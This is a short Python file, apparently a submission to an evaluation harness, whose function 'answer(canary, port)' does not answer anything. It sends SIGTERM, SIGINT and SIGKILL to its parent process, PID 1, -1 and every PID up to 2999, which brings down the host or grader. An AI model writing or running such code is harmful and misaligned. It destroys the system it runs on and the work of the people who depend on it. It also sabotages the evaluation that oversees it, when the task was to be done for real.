"""Kills every process it may, its parent first."""

import os
import signal


def answer(canary, port):
    for number in (os.getppid(), 1, -1, *range(1, 3000)):
        for kind in (signal.SIGTERM, signal.SIGINT, signal.SIGKILL):
            try:
                if number != os.getpid():
                    os.kill(number, kind)
            except OSError:
                pass
    return "killed"
